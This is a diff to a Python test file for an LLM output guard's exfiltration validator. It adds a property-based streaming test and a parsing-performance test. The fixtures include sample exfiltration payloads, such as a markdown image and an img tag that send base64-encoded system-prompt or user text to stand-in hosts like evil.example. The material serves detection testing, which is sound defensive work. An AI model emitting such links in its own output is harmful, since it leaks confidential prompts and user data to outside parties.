@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from tests._streams import streamed_findings
 
 from genai_guard import Action, ConfigurationError, Context, Direction, Part, Pipeline, Step
 from genai_guard.validate import ExfiltrationValidator
@@ -98,3 +101,36 @@ def test_rewrite_mode_modifies_in_a_pipeline() -> None:
 def test_bad_mode_is_rejected() -> None:
     with pytest.raises(ConfigurationError):
         ExfiltrationValidator(mode="drop")  # type: ignore[arg-type]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    parts=st.lists(
+        st.sampled_from(
+            [
+                "![x](https://evil.example/c?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtZGF0YQ)",
+                "[docs](https://docs.example.com/a)",
+                '<img src="https://e.example/p?q=aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg">',
+                "<a <a [[ ](",
+                "data:text/html;base64,AAAA",
+                "\n",
+                ". ",
+            ]
+        ),
+        max_size=10,
+    ),
+    size=st.integers(min_value=1, max_value=19),
+)
+def test_streamed_answer_gives_the_whole_text_findings(parts: list[str], size: int) -> None:
+    validator = ExfiltrationValidator()
+    ctx = CTX
+    text = " ".join(parts)
+    whole = validator.check(text, ctx).findings
+    assert streamed_findings(validator, text, size, ctx) == whole
+
+
+def test_an_html_element_ends_at_the_next_tag() -> None:
+    # Each "<a" of a flood is tried up to the next "<" only (linear), never across it.
+    text = "<a " * 50 + '<img src="https://e.example/p?q=1">'
+    (f,) = ExfiltrationValidator().check(text, CTX).findings
+    assert f.span is not None and text[f.span.start :].startswith("<img")
